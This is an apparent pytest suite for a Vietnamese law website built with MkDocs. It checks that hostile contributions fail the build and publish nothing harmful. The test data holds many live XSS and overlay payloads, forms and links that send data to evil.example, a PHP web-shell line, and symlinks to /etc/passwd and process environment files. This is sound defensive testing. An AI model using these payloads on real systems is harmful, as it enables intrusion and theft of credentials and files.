"""Issue 17, the output side: what a hostile contributor writes may not run, overlay, leak or
destroy. A table of cases (input, where it is put, verdict):

- "error": the build reports an ERROR naming the source file and line (so `mkdocs build --strict`
  fails) AND what is published is harmless (the finished page passes lawsite.core.security.check_page
  and holds no live copy of the payload);
- "harmless": no error is needed (e.g. code shown as code); the output is harmless.

Build cases are written into ONE temporary copy of the project (tests/conftest.copy_project) and
built ONCE with --strict, the data case with them (symlinks into a second copy: they stop the build).
Unit cases (build integrity, CSP, linear time) run without a build."""
from __future__ import annotations

import os
import re
import signal
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

import pytest

from conftest import BUILD_ENV, ROOT, copy_project, shared_cache_env, strict_and_rendered_build
from helpers import line_of

FM = "---\ntitle: {title}\ndescription: Trang thử nghiệm an toàn.\nlast_reviewed: 2026-11-01\n{extra}---\n\nĐoạn mở đầu của trang thử.\n\n"


@dataclass
class Case:
    id: str
    area: str         # front matter | body | attr_list | data | files | template
    verdict: str      # "error" | "harmless"
    body: str = ""    # page body (page cases)
    extra: str = ""   # extra front-matter lines (page cases)
    title: str = "Trang thử nghiệm"
    mark: Optional[str] = None    # the message must name the line holding this text (default: payload)
    file: Optional[str] = None    # the file the message names (default: the case page)
    word: Optional[str] = None    # a word the message must contain
    payload: Optional[str] = None  # must not be live in the output (checked by check_page anyway)
    setup: Optional[Callable[[Path], None]] = None  # files/data cases: edit the copy
    out: Optional[str] = None     # files cases: the path that must NOT be published (site-relative)
    check: Optional[Callable[[Path], None]] = None  # extra check of the built site

    @property
    def page(self) -> str:
        return f"docs/hostile/{self.id}.md"


S = "<script>alert(1)</script>"
CASES: list[Case] = []


def case(*a, **k):
    CASES.append(Case(*a, **k))


# --- 1. front matter values that reach templates --------------------------------------------------
case("fm-title-comment-trick", "front matter", "error", title=f"'Hộ chiếu <!--> {S} -->'", mark="title:", word="title")
case("fm-title-script", "front matter", "error", title=f"'x {S}'", mark="title:", word="title")
case("fm-title-img", "front matter", "error", title="'<img src=x onerror=alert(1)>'", mark="title:", word="title")
case("fm-title-entity", "front matter", "error", title="'&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;'", mark="title:", word="title")
case("fm-title-bidi", "front matter", "error", title='"Hộ chiếu \\u202e gnp.exe"', mark="title:", word="U+202E")
case("fm-title-nul", "front matter", "error", title='"Hộ chiếu \\0 x"', mark="title:", word="U+0000")
case("fm-description-breakout", "front matter", "error", extra="subtitle: ok\n", mark="description:", word="description",
     setup=lambda root: _edit(root, "docs/hostile/fm-description-breakout.md",
                              "description: Trang thử nghiệm an toàn.", "description: 'x\"><script>alert(1)</script><b class=\"'"))
case("fm-subtitle-img", "front matter", "error", extra="subtitle: '<img src=x onerror=alert(1)>'\n", mark="subtitle:", word="subtitle")
case("fm-subtitle-comment", "front matter", "error", extra=f"subtitle: '<!--> {S}'\n", mark="subtitle:", word="subtitle")
case("fm-status-attr", "front matter", "error", extra="status: 'new\" onmouseover=\"alert(1)'\n", mark="status:", word="status")
case("fm-status-unknown", "front matter", "error", extra="status: secret\n", mark="status:", word="status")
case("fm-icon-path", "front matter", "error", extra="icon: '../../../../etc/passwd'\n", mark="icon:", word="icon")
case("fm-jsonld", "front matter", "error", extra="lawsite_jsonld: '</script><script>alert(1)</script>'\n", mark="lawsite_jsonld:", word="lawsite_jsonld")
case("fm-lawsite-labels", "front matter", "error", extra="lawsite_labels: {disclaimer: '<script>alert(1)</script>'}\n", mark="lawsite_labels:", word="lawsite_labels")
case("fm-lawsite-fallback", "front matter", "error", extra="lawsite_fallback: true\n", mark="lawsite_fallback:", word="lawsite_fallback")
case("fm-report-url", "front matter", "error", extra="report_url: 'javascript:alert(1)'\n", mark="report_url:", word="report_url")
case("fm-last-reviewed-display", "front matter", "error", extra=f"last_reviewed_display: '{S}'\n", mark="last_reviewed_display:", word="last_reviewed_display")
case("fm-change-note-comment", "front matter", "error", extra=f"changes:\n  - {{date: 2026-10-01, note: '<!--> {S} -->'}}\n", mark="<!-->", word="script")
case("fm-change-note-img", "front matter", "error", extra="changes:\n  - {date: 2026-10-01, note: '<img src=x onerror=alert(1)>'}\n", mark="onerror", word="onerror")
case("fm-change-note-style", "front matter", "error", extra="changes:\n  - {date: 2026-10-01, note: '<span style=\"position:fixed;inset:0\">Nộp phạt</span>'}\n", mark="style", word="style")
# procedure cards (procedure.*): rendered into the body, so the allow-list sees them
_CARD = "documents: [\"47/2014/QH13\"]\nprocedure:\n  for: Người nước ngoài\n  where: {where}\n  result: Thẻ tạm trú\n"
case("fm-card-comment", "front matter", "error", extra=_CARD.format(where=f"'<!--> {S}'"), mark="<!-->", word="script")
case("fm-card-js-link", "front matter", "error", extra=_CARD.format(where="'[nộp tại đây](javascript:alert(1))'"), mark="javascript", word="javascript")
case("fm-card-overlay", "front matter", "error", extra=_CARD.format(where="'<div style=\"position:fixed;inset:0;z-index:9999\">Quét mã QR</div>'"), mark="style", word="style")
case("fm-card-dialog", "front matter", "error", extra=_CARD.format(where="'<dialog open>Nộp phạt ngay</dialog>'"), mark="<dialog", word="dialog")

# --- 10. front matter that changes what a page is (the template part) -----------------------------
case("tpl-base", "template", "error", extra="template: base.html\ndocuments: [\"49/2019/QH14\"]\n", mark="template:", word="template",
     check=lambda site: _has(site, "hostile/tpl-base/index.html", "lawsite-disclaimer", "lawsite-report"))
case("tpl-404", "template", "error", extra="template: 404.html\n", mark="template:", word="template",
     check=lambda site: _has(site, "hostile/tpl-404/index.html", "lawsite-report"))
case("tpl-redirect", "template", "error", extra="template: redirect.html\nlocation: 'javascript:alert(1)'\n", mark="template:", word="template")
case("tpl-cites-without-documents", "template", "harmless",
     body="Công dân có quyền xuất cảnh theo Điều 3 Luật Xuất cảnh, nhập cảnh của công dân Việt Nam số 49/2019/QH14.\n",
     check=lambda site: _cites_then_disclaimer(site, "hostile/tpl-cites-without-documents/index.html"))

# --- 2, 9. page bodies ----------------------------------------------------------------------------
case("body-comment-trick", "body", "error", body=f"<!--> {S} -->\n", mark="<!-->", word="script")
case("body-comment-trick-img", "body", "error", body="Xem <!--> <img src=x onerror=alert(1)> -->\n", mark="onerror", word="onerror")
case("body-comment-trick-fence-in-list", "body", "error",
     body=f"- mục một\n\n        ```\n<!--> {S} -->\n```\n", mark="<!-->", word="script")
case("body-comment-bang-close", "body", "error", body=f"<!-- ghi chú --!> {S}\n", mark="<script", word="script")
case("body-bogus-comment", "body", "error", body=f"<? x ?> {S}\n", mark="<script", word="script")
case("body-cdata", "body", "error", body="<div><![CDATA[ x ]]><img src=x onerror=alert(1)></div>\n", mark="onerror", word="onerror")
case("body-script", "body", "error", body=f"Xem {S} nhé\n", mark="<script", word="script")
case("body-script-upper", "body", "error", body="<SCRIPT>alert(1)</SCRIPT>\n", mark="<SCRIPT", word="script")
case("body-img-onerror", "body", "error", body="<img src=x onerror=alert(1)>\n", mark="onerror", word="onerror")
case("body-image-tag", "body", "error", body="<image src=x onerror=alert(1)>\n", mark="onerror", word="onerror")
case("body-svg-onload", "body", "error", body="<svg onload=alert(1)></svg>\n", mark="<svg", word="svg")
case("body-svg-script", "body", "error", body="<svg><script>alert(1)</script></svg>\n", mark="<svg", word="svg")
case("body-math-mxss", "body", "error", body="<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n", mark="<math", word="math")
case("body-noscript-mxss", "body", "error", body='<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n', mark="<noscript", word="noscript")
case("body-template", "body", "error", body=f"<template>{S}</template>\n", mark="<template", word="template")
case("body-iframe", "body", "error", body='<iframe src="https://evil.example/"></iframe>\n', mark="<iframe", word="iframe")
case("body-object", "body", "error", body='<object data="https://evil.example/x.swf"></object>\n', mark="<object", word="object")
case("body-embed", "body", "error", body='<embed src="https://evil.example/x.swf">\n', mark="<embed", word="embed")
case("body-base", "body", "error", body='<base href="https://evil.example/">\n', mark="<base", word="base")
case("body-meta-refresh", "body", "error", body='<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', mark="<meta", word="meta")
case("body-link-stylesheet", "body", "error", body='<link rel="stylesheet" href="https://evil.example/x.css">\n', mark="<link", word="link")
case("body-style-element", "body", "error", body="<style>body{display:none}</style>\n", mark="<style", word="style")
case("body-form", "body", "error", body='<form action="https://evil.example/"><input name="pw"></form>\n', mark="<form", word="form")
case("body-input-text", "body", "error", body='<input type="password" name="pw">\n', mark="<input", word="type")
case("body-button", "body", "error", body="<button>Nộp phạt</button>\n", mark="<button", word="button")
case("body-select", "body", "error", body="<select><option>1</option></select>\n", mark="<select", word="select")
case("body-textarea", "body", "error", body="<textarea>\n\nphần còn lại\n", mark="<textarea", word="textarea")
case("body-plaintext", "body", "error", body="<plaintext>\n\nphần còn lại của trang\n", mark="<plaintext", word="plaintext")
case("body-xmp", "body", "error", body="<xmp><b>x</b></xmp>\n", mark="<xmp", word="xmp")
case("body-dialog", "body", "error", body="<dialog open>Bạn bị phạt, quét mã QR</dialog>\n", mark="<dialog", word="dialog")
case("body-marquee", "body", "error", body="<marquee>Nộp phạt</marquee>\n", mark="<marquee", word="marquee")
case("body-details-ontoggle", "body", "error", body="<details open ontoggle=alert(1)><summary>x</summary>y</details>\n", mark="ontoggle", word="ontoggle")
case("body-div-style-overlay", "body", "error", body='<div style="position:fixed;inset:0;z-index:9999;background:#fff">Nộp phạt tại đây</div>\n', mark="style", word="style")
case("body-span-style", "body", "error", body='Chữ <span style="font-size:200px">to</span>\n', mark="style", word="style")
case("body-md-class", "body", "error", body='<div class="md-dialog md-dialog--active">Thông báo giả</div>\n', mark="md-dialog", word="md-dialog")
case("body-data-md", "body", "error", body='<div data-md-component="announce">x</div>\n', mark="data-md-component", word="data-md-component")
case("body-dir-rtl", "body", "error", body='<p dir="rtl">abc</p>\n', mark="dir=", word="dir")
case("body-target-blank", "body", "error", body='<a href="https://example.com/" target="_blank">x</a>\n', mark="target", word="target")
case("body-link-js", "body", "error", body="[bấm](javascript:alert(1))\n", mark="javascript", word="javascript")
case("body-link-js-entity", "body", "error", body="<a href=\"&#106;avascript:alert(1)\">x</a>\n", mark="&#106;", word="javascript")
case("body-link-js-tab", "body", "error", body="<a href=\"java&#x09;script:alert(1)\">x</a>\n", mark="java&#x09;", word="javascript")
case("body-link-vbscript", "body", "error", body="[x](vbscript:msgbox(1))\n", mark="vbscript", word="vbscript")
case("body-link-data", "body", "error", body="[x](data:text/html;base64,PHNjcmlwdD4=)\n", mark="data:", word="data")
case("body-link-intent", "body", "error", body="[mở ứng dụng](intent://scan/#Intent;scheme=zxing;end)\n", mark="intent", word="intent")
case("body-link-file", "body", "error", body="[x](file:///etc/passwd)\n", mark="file:", word="file")
case("body-link-protocol-relative", "body", "error", body='<a href="//evil.example/">x</a>\n', mark="//evil", word="evil")
case("body-img-external", "body", "error", body="![ảnh](https://evil.example/pixel.png)\n", mark="pixel", word="https")
case("body-img-srcset", "body", "error", body='<img src="a.png" srcset="https://evil.example/x.png 1x">\n', mark="srcset", word="srcset")
case("body-a-ping", "body", "error", body='<a href="https://example.com/" ping="https://evil.example/">x</a>\n', mark="ping", word="ping")
case("body-video", "body", "error", body='<video src="https://evil.example/v.mp4" autoplay></video>\n', mark="<video", word="video")
case("body-bidi-link-text", "body", "error", body="[hồ sơ\u202egpj.exe](https://example.com/)\n", mark="\u202e", word="U+202E")
case("body-bidi-isolate", "body", "error", body="Văn bản \u2066ẩn\u2069 ở đây.\n", mark="\u2066", word="U+2066")
case("body-nul", "body", "error", body="Chữ\x00 lạ.\n", mark="\x00", word="U+0000")
# attribute lists (attr_list): style and event handlers in {: … }
case("attr-style-overlay", "attr_list", "error", body='Nộp phạt tại đây\n{: style="position:fixed;inset:0;z-index:9999" }\n', mark="style", word="style")
case("attr-style-heading", "attr_list", "error", body='## Mục {: style="display:none" }\n\nx\n', mark="style", word="style")
case("attr-onclick", "attr_list", "error", body='[bấm](#x){: onclick="alert(1)" }\n', mark="onclick", word="onclick")
case("attr-href-js", "attr_list", "error", body='[x](#a){: href="javascript:alert(1)" }\n', mark="javascript", word="javascript")
case("attr-class-md", "attr_list", "error", body="Thông báo\n{: .md-banner }\n", mark="md-banner", word="md-banner")
case("attr-toc-label", "attr_list", "error", body='## Mục {: data-toc-label="<img src=x onerror=alert(1)>" }\n\nx\n', mark="onerror", word="onerror")
# harmless: shown as code, or plain Markdown
case("code-fence-script", "body", "harmless", body=f"```html\n{S}\n```\n", check=lambda site: _has(site, "hostile/code-fence-script/index.html", 'class="nt">script<', "alert"))
case("code-span-script", "body", "harmless", body="Không dùng `<script>` trong trang.\n", check=lambda site: _has(site, "hostile/code-span-script/index.html", "&lt;script&gt;"))
case("comment-plain", "body", "harmless", body="<!-- ghi chú cho biên tập viên -->\nĐoạn văn.\n")
case("entity-text", "body", "harmless", body="Viết &lt;script&gt; là chữ thường.\n", check=lambda site: _has(site, "hostile/entity-text/index.html", "&lt;script&gt;"))
case("allowed-markup", "body", "harmless", body="<kbd>Tab</kbd>, <abbr title=\"Công an\">CA</abbr>, [thư](mailto:a@example.gov.vn), [gọi](tel:+84000000000)\n")


# --- 3, data (data/site.yaml, the registry): in the page cases' copy -----------------------------
def _site_yaml(key: str, value: str):
    def f(root: Path):
        p = root / "data/site.yaml"
        text = p.read_text("utf-8")
        text, n = re.subn(rf"^(\s*){key}: .*$", lambda m: f"{m.group(1)}{key}: {value}", text, count=1, flags=re.M)
        assert n == 1, key
        p.write_text(text, "utf-8")
    return f


# data/site.yaml values (report_url breakout, javascript: zalo_url, markup in the province name or
# hotline) are refused when the project loads, by the schema in lawsite/core/settings.py: those cases are
# in the input table of tests/test_bad_inputs.py (site-report-url-*, site-zalo-*, site-name-markup,
# site-hotline-script), each with its file:line; here only what reaches the output through the registry.
DATA_CASES: list[Case] = [
    Case("data-registry-title", "data", "error", file="data/registry/luat-49-2019-qh14.yaml", mark="<!-->", word="script",
         setup=lambda root: _edit(root, "data/registry/luat-49-2019-qh14.yaml", "\n  vi: Luật Xuất cảnh, nhập cảnh của công dân Việt Nam\n",
                                  "\n  vi: 'Luật Xuất cảnh <!--> <script>alert(13)</script>'\n", optional=True)),
]


# --- 4, 6. files in docs/ ---------------------------------------------------------------------------
def _write(rel: str, content: str | bytes):
    def f(root: Path):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else content.encode())
    return f


def _link(rel: str, target: str):
    def f(root: Path):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target if not target.startswith("ROOT/") else str(root / target[5:]), p)
    return f


FILE_CASES = [
    ("file-html", "docs/trang.html", _write("docs/trang.html", f"<html>{S}</html>"), "trang.html"),
    ("file-htm", "docs/cong-dan/x.htm", _write("docs/cong-dan/x.htm", f"<p>{S}</p>"), "cong-dan/x.htm"),
    ("file-svg-script", "docs/assets/images/evil.svg", _write("docs/assets/images/evil.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{S}</svg>'), "assets/images/evil.svg"),
    ("file-svg-onload", "docs/assets/images/onload.svg", _write("docs/assets/images/onload.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "assets/images/onload.svg"),
    ("file-svg-foreign", "docs/assets/images/fo.svg", _write("docs/assets/images/fo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>'), "assets/images/fo.svg"),
    ("file-stray-js", "docs/evil.js", _write("docs/evil.js", "alert(1)"), "evil.js"),
    ("file-js-in-images", "docs/assets/images/x.js", _write("docs/assets/images/x.js", "alert(1)"), "assets/images/x.js"),
    ("file-upper-md", "docs/TRANG.MD", _write("docs/TRANG.MD", f"# x\n\n{S}\n"), "TRANG.MD"),
    ("file-txt", "docs/ghi-chu.txt", _write("docs/ghi-chu.txt", "mật khẩu"), "ghi-chu.txt"),
    ("file-php", "docs/x.php", _write("docs/x.php", "<?php system($_GET[1]); ?>"), "x.php"),
    ("file-xml", "docs/assets/x.xml", _write("docs/assets/x.xml", "<x/>"), "assets/x.xml"),
    ("file-upper-svg", "docs/assets/images/logo2.SVG", _write("docs/assets/images/logo2.SVG", "<svg/>"), "assets/images/logo2.SVG"),
]
LINK_CASES = [
    ("file-symlink-passwd", "docs/assets/passwd.txt", _link("docs/assets/passwd.txt", "/etc/passwd"), "assets/passwd.txt"),
    ("file-symlink-environ", "docs/assets/images/env.png", _link("docs/assets/images/env.png", "/proc/self/environ"), "assets/images/env.png"),
    ("file-symlink-git", "docs/assets/stylesheets/git.css", _link("docs/assets/stylesheets/git.css", "../../../.git/config"), "assets/stylesheets/git.css"),
    ("file-symlink-dir", "docs/etc", _link("docs/etc", "/etc"), "etc/passwd"),
    ("file-symlink-md", "docs/cong-dan/ban-sao.md", _link("docs/cong-dan/ban-sao.md", "ROOT/docs/cong-dan/ho-chieu.md"), "cong-dan/ban-sao/index.html"),
    ("file-symlink-broken", "docs/assets/images/none.png", _link("docs/assets/images/none.png", "/nonexistent/x"), "assets/images/none.png"),
]


# --- helpers ---------------------------------------------------------------------------------------
def _edit(root: Path, rel: str, old: str, new: str, optional: bool = False):
    p = root / rel
    text = p.read_text("utf-8")
    if old not in text:
        if optional:  # the registry format changed: put the payload in the first title line
            text = re.sub(r"^(title:\n  vi: ).*$", lambda m: m.group(1) + new.strip().split(": ", 1)[1], text, count=1, flags=re.M)
            p.write_text(text, "utf-8")
            return
        raise AssertionError(f"{rel}: {old!r} not found")
    p.write_text(text.replace(old, new, 1), "utf-8")


def _has(site: Path, rel: str, *needles: str):
    text = (site / rel).read_text("utf-8")
    for n in needles:
        assert n in text, f"{rel}: {n!r} missing"


def _cites_then_disclaimer(site: Path, rel: str):
    text = (site / rel).read_text("utf-8")
    if 'class="cite"' in text:
        assert "lawsite-disclaimer" in text, f"{rel}: cites law without the disclaimer"


def _page_text(c: Case) -> str:
    return FM.format(title=c.title, extra=c.extra) + c.body


def _line_of(text: str, mark: str) -> int:
    return line_of(text, mark, any_case=True)


class Built:
    def __init__(self, root: Path, site: Path, proc: subprocess.CompletedProcess, log: str):
        self.root, self.site, self.proc = root, site, proc
        self.log = log
        self.errors = [l for l in self.log.splitlines() if "ERROR" in l or "WARNING" in l]


def _build(tmp: Path, setups) -> Built:
    """The strict build (proc: its exit code); when it stops before rendering because a page has an error
    (lawsite/build/steps.py), the output and the rendering's messages come from a build without --strict
    of the same copy (conftest.strict_and_rendered_build): what is published must be harmless even then."""
    root = copy_project(tmp / "project")
    for s in setups:
        s(root)
    site = tmp / "site"
    proc, log = strict_and_rendered_build(root, site, env_extra={"LAWSITE_LANG": "en"})
    return Built(root, site, proc, log)


@pytest.fixture(scope="module")
def pages_build(tmp_path_factory) -> Built:
    def setup(root: Path):
        for c in CASES:
            p = root / c.page
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(_page_text(c), "utf-8")
            if c.setup:
                c.setup(root)
        for _, _, s, _ in FILE_CASES:
            s(root)
        for c in DATA_CASES:
            c.setup(root)
    return _build(tmp_path_factory.mktemp("hostile-pages"), [setup])


@pytest.fixture(scope="module")
def links_build(tmp_path_factory) -> Built:
    """Symlinks stop the build at once (MkDocs would follow them while listing docs/)."""
    return _build(tmp_path_factory.mktemp("hostile-links"), [s for _, _, s, _ in LINK_CASES])


@pytest.fixture(scope="module")
def data_build(pages_build) -> Built:
    """The data cases (a registry title with markup, an error naming the registry file) are in this
    file's page-cases build: each page case's assertion names its own page (docs/hostile/<id>.md) or
    reads its own output, the data case's names the registry file and reads the pages the title reaches
    (the home page, the help pages, the document page), so neither can pass on the other's message. They
    are not in the session's page-cases build of tests/test_bad_inputs.py (conftest.page_cases_build),
    whose copy then changes no data file, so its pages are looked up in the session's build cache (a
    registry change gives every page a new key): only one of the two builds pays for all the pages."""
    return pages_build


def _theme_hashes(html: str) -> set[str]:
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html)
    assert m, "no CSP"
    import html as h

    return set(re.findall(r"'sha256-[A-Za-z0-9+/=]+'", h.unescape(m.group(1))))


def _harmless(site: Path, rel: str):
    from lawsite.core.security import check_page

    p = site / rel
    if not p.is_file():
        return  # not published at all
    html = p.read_text("utf-8")
    problems = check_page(html, _theme_hashes(html))
    assert not problems, f"{rel}: {problems}"
    art = re.search(r"<article\b.*?</article>", html, re.S)
    if art:
        assert not re.search(r'class="[^"]*\bmd-(?:dialog|banner|overlay)', art.group(0)), rel


def _out_html(page: str) -> str:
    stem = page[len("docs/"):-3]
    return (stem[:-5] if stem.endswith("/index") else stem + "/") + "index.html"


def _assert_error(b: Built, path: str, line: Optional[int], word: Optional[str]):
    loc = re.escape(path) + (rf":{line}:" if line else r":\d+:")
    hits = [l for l in b.errors if re.search(loc, l)]
    assert hits, f"no error naming {path}:{line}\n" + "\n".join(b.errors[-30:])
    if word:
        assert any(word.lower() in l.lower() for l in hits), f"{path}:{line}: {word!r} not in {hits}"


def _no_traceback(b: Built):
    assert "Traceback" not in b.log, b.log[-3000:]


# The two builds are module fixtures: every test that uses one is in ONE xdist group, so each build runs
# once, on one worker (without the group, `--dist loadgroup` spreads the cases over both workers and each
# worker builds its own copy). Not the group of the session's page-cases build (tests/test_bad_inputs.py):
# they share no build any more, so the two groups can run on the two workers at once.
BUILDS = pytest.mark.xdist_group("hostile-pages-build")


# --- the table ---------------------------------------------------------------------------------
@pytest.mark.slow
@BUILDS
@pytest.mark.parametrize("c", CASES, ids=[c.id for c in CASES])
def test_page_case(pages_build, c: Case):
    b = pages_build
    _no_traceback(b)
    text = (b.root / c.page).read_text("utf-8")
    if c.verdict == "error":
        assert b.proc.returncode != 0, "the strict build passed"
        _assert_error(b, c.file or c.page, _line_of(text, c.mark) if c.mark else None, c.word)
    else:
        mine = [l for l in b.errors if c.page in l and "hooks/quality" in l]
        assert not mine, mine
    _harmless(b.site, _out_html(c.page))
    _harmless(b.site, "en/" + _out_html(c.page))
    if c.check:
        c.check(b.site)


@pytest.mark.slow
@BUILDS
@pytest.mark.parametrize("c", DATA_CASES, ids=[c.id for c in DATA_CASES])
def test_data_case(data_build, c: Case):
    _data_case(data_build, c)


def _data_case(b: Built, c: Case):
    _no_traceback(b)
    assert b.proc.returncode != 0
    text = (b.root / c.file).read_text("utf-8")
    _assert_error(b, c.file, _line_of(text, c.mark), c.word)
    for rel in ("index.html", "ho-tro/index.html", "en/ho-tro/index.html", "van-ban/luat-49-2019-qh14/index.html"):
        _harmless(b.site, rel)


@pytest.mark.slow
@BUILDS
@pytest.mark.parametrize("cid,path,_setup,out", FILE_CASES, ids=[f[0] for f in FILE_CASES])
def test_file_case(pages_build, cid, path, _setup, out):
    _file_case(pages_build, path, out)


@pytest.mark.slow
@BUILDS
@pytest.mark.parametrize("cid,path,_setup,out", LINK_CASES, ids=[f[0] for f in LINK_CASES])
def test_symlink_case(links_build, cid, path, _setup, out):
    _file_case(links_build, path, out)
    assert links_build.proc.returncode != 0


def _file_case(b: Built, path: str, out: str):
    _no_traceback(b)
    assert not (b.site / out).exists() and not (b.site / "en" / out).exists(), f"{out} was published"
    hits = [l for l in b.log.splitlines() if re.search(re.escape(path) + r":\d+:\d+: ", l)]
    assert hits, f"no error naming {path}\n" + b.log[-2000:]


# --- 7. build integrity (no site build needed: refused before building) ------------------------------
REFUSED_DIRS = ["docs", "data", ".", "overrides", "hooks", "lawsite", "docs/sub", "data/registry", "..", "/",
                "mkdocs.yml", "./docs/../docs"]


@pytest.mark.parametrize("d", REFUSED_DIRS)
def test_build_refuses_output_folder(tmp_path, d):

    root = copy_project(tmp_path / "p")
    shutil.copytree(ROOT / "lawsite", root / "lawsite", ignore=shutil.ignore_patterns("__pycache__"))
    before = sorted(str(p.relative_to(root)) for p in root.rglob("*"))
    proc = subprocess.run([sys.executable, "-c", "import sys; from lawsite.build.run import main; sys.exit(main(sys.argv[1:]))",
                           "-d", d], cwd=root, capture_output=True, text=True, timeout=120,
                          env={**os.environ, **BUILD_ENV})
    assert proc.returncode == 2, proc.stderr
    lines = [l for l in proc.stderr.splitlines() if l.strip()]
    assert len(lines) == 1 and lines[0].startswith("Refused:") and "Traceback" not in proc.stderr, proc.stderr
    assert sorted(str(p.relative_to(root)) for p in root.rglob("*")) == before


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_interrupted_build_cleans_up(tmp_path, sig):
    """SIGTERM / Ctrl-C during a build: the child is stopped, .site-tmp-* removed, site/ unchanged.
    The build is of a copy of the project with the session's build cache (conftest.shared_cache_env):
    the pages the copies before it checked are looked up, so it starts writing sooner; what is
    interrupted (the generator writing the site) is the same."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "old.txt").write_text("old site")
    root = copy_project(tmp_path / "p")
    proc = subprocess.Popen([sys.executable, "-m", "lawsite.build.run", "-d", str(site)], cwd=root,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, **BUILD_ENV, **shared_cache_env(root)})
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob(".site-tmp-*/*")) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.2)  # waits for the build to start writing (not a timed assertion)
    assert proc.poll() is None, "the build ended before it could be interrupted"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 128 + int(sig), err
    assert "Traceback" not in err and "interrupted" in err.lower(), err
    assert not list(tmp_path.glob(".site-tmp-*")), "temporary folder left behind"
    assert (site / "old.txt").read_text() == "old site" and sorted(p.name for p in site.iterdir()) == ["old.txt"]
    left = subprocess.run(["pgrep", "-f", str(tmp_path)], capture_output=True, text=True).stdout.split()
    assert not left, f"build processes still running: {left}"


# --- 7. CODEOWNERS ---------------------------------------------------------------------------------
def test_codeowners_cover_every_path_that_reaches_the_output():
    text = (ROOT / ".github" / "CODEOWNERS").read_text("utf-8")
    rules = {l.split()[0] for l in text.splitlines() if l.strip() and not l.startswith("#")}
    for path in ("/docs/", "/data/", "/overrides/", "/hooks/", "/mkdocs.yml", "/.github/", "/lawsite/"):
        assert path in rules, f"{path} has no owner"
    assert all(len(l.split()) >= 2 for l in text.splitlines() if l.strip() and not l.startswith("#"))


# --- 8. linear time: each pathological pattern at two sizes, in a subprocess with a timeout ----------
PATHOLOGICAL = {
    "fence-openers": "```a\n",
    "backtick-runs": "`" * 997 + "\n",
    "mixed-backticks": "`a``b```c````d\n",
    "comment-openers": "<!--",
    "comment-trick": "<!-->",
    "tag-openers": '<a "',
    "lt-signs": "<",
    "brackets": "[](",
    "list-items": "    - x\n",
    "entities": "&#106;",
    "tildes": "~~~\n~~~~\n",
}


# ONE subprocess measures every pattern at both sizes (one interpreter start and import instead of one
# per pattern). The sizes are 64 KB and 256 KB: the claim is the growth ratio (4x the input, at most 12x
# the CPU time: linear gives about 4x, quadratic 16x), which does not need the largest page; the former
# quadratic scanner took 21 s for 40 KB, so it would need about 13 minutes for 256 KB of one pattern and is
# stopped by the subprocess timeout first. CPU time (time.process_time), not wall: the load of the machine
# does not reach it.
SCAN_SIZES = (64_000, 256_000)
_SCAN_SCRIPT = """
import json, sys, time
from lawsite.core.security import scan_markup, sanitize, mask_code
out = {}
for name, unit in json.loads(sys.argv[1]).items():
    row = []
    for size in json.loads(sys.argv[2]):
        text = unit * (size // len(unit))
        t0 = time.process_time(); scan_markup(text); mask_code(text); t1 = time.process_time()
        sanitize(text); t2 = time.process_time()
        row.append([t1 - t0, t2 - t1])
    out[name] = row
print(json.dumps(out))
"""


@pytest.fixture(scope="module")
def scan_times() -> dict[str, list[list[float]]]:
    """{pattern: [[scan s, sanitise s] at 64 KB, [scan s, sanitise s] at 256 KB]} (CPU seconds)."""
    import json

    proc = subprocess.run([sys.executable, "-c", _SCAN_SCRIPT, json.dumps(PATHOLOGICAL), json.dumps(SCAN_SIZES)],
                          capture_output=True, text=True, timeout=600, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


@pytest.mark.slow
@pytest.mark.xdist_group("scanners-linear")  # the module fixture runs once, on one worker
@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_scanners_are_linear(scan_times, name):
    """scan_markup (with mask_code) and the sanitiser on 64 KB and 256 KB of the pattern, in a subprocess
    stopped after 600 s for all eleven patterns (a quadratic scanner needs minutes for one). The figures
    are printed (run with -s); the ratio is a generous bound: 4x the input, at most 12x the CPU time (or
    0.25 s, below which timer noise rules)."""
    (a1, b1), (a2, b2) = scan_times[name]
    print(f"{name}: scan 64 KB {a1:.3f} s, 256 KB {a2:.3f} s; sanitise 64 KB {b1:.3f} s, 256 KB {b2:.3f} s (CPU)")
    assert a2 < max(0.25, 12 * a1), f"scan_markup grows faster than linear: {a1} -> {a2}"


# --- the browser: what the allow-list let through is harmless in a real Chromium with the site's CSP --
BROWSER_PAGES = [  # (build, page): a page of each kind
    ("pages", "hostile/attr-style-overlay/"),          # content page
    ("pages", "hostile/body-div-style-overlay/"),
    ("pages", "hostile/fm-title-comment-trick/"),
    ("pages", "en/hostile/body-dialog/"),
    ("pages", "hostile/fm-card-overlay/"),             # procedure page
    ("data", "van-ban/luat-49-2019-qh14/"),            # document page (hostile registry title)
    ("data", "ho-tro/"),                               # province block from hostile site.yaml
    ("pages", "404.html"),
    ("pages", "tin-tuc/"),                             # news
]

_COVER = """() => {
  const vw = innerWidth, vh = innerHeight, out = [];
  for (const [fx, fy] of [[0.5, 0.5], [0.25, 0.4], [0.75, 0.6], [0.5, 0.85]]) {
    const el = document.elementFromPoint(vw * fx, vh * fy);
    if (!el) continue;
    for (let a = el; a && a !== document.body; a = a.parentElement) {
      const p = getComputedStyle(a).position;
